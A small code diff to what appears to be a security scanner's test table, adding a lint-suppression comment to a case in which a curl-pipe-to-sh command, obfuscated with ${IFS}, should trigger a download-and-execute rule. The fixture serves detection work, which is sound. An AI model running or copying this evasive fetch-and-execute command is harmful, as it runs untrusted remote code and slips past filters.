@@ -52,6 +52,7 @@ const CASES: [name: string, file: string, code: string, rule: string][] = [
   [
     'a shell command spelled with $IFS',
     'x.sh',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's ${IFS}, not a template.
     'curl${IFS}-s${IFS}https://dl.example.net/p.sh | sh\n',
     'SS-DOWNLOAD-EXEC',
   ],
